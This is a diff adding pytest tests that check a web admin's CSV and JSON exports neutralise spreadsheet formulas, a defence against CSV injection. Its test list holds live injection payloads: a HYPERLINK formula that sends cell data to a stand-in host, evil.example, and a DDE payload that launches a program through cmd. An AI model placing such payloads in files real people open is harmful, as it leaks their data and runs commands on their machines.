@@ -3,6 +3,9 @@ read-only where they don't, and list pages whose cost does not grow with the tab
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import re
 from collections.abc import Callable
 from contextlib import contextmanager
@@ -12,6 +15,7 @@ from typing import Any
 import pytest
 import sqlalchemy as sa
 
+from pixcrawler.admin.base import spreadsheet_safe
 from pixcrawler.extensions import db
 from pixcrawler.models import (
     ActivityLog,
@@ -361,3 +365,40 @@ def test_other_orders_use_numbered_pages(admin_app, admin):
     ids = listed_ids(page, "image")
     assert ids == sorted(ids) and len(ids) == 20
     assert 'id="keyset-pager"' not in page
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_exports_never_hand_a_spreadsheet_a_formula(admin_app, admin):
+    """OWASP's CSV injection: such cells start with an apostrophe in the CSV and JSON exports;
+    other text and numbers are exported as they are."""
+    seed(admin_app)
+    with admin_app.app_context():
+        owner = db.session.scalars(sa.select(Profile).where(Profile.email.like("owner%"))).one()
+        db.session.add_all(Project(name=name, owner=owner) for name in FORMULAS)
+        db.session.commit()
+    expected = {*(f"'{name}" for name in FORMULAS), "Cats project"}
+    response = admin.get("/admin/project/export/csv/")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    assert {row["Name"] for row in rows} == expected
+    assert all(row["Id"].isdigit() for row in rows)
+    response = admin.get("/admin/project/export/json/")
+    assert response.status_code == 200
+    assert {row["Name"] for row in json.loads(response.get_data(as_text=True))} == expected
+
+
+def test_spreadsheet_safe_leaves_numbers_alone():
+    assert spreadsheet_safe(-5) == -5
+    assert spreadsheet_safe(2.5) == 2.5
+    assert spreadsheet_safe(None) is None
+    assert spreadsheet_safe("-5") == "'-5"
+    assert spreadsheet_safe("a=b") == "a=b"
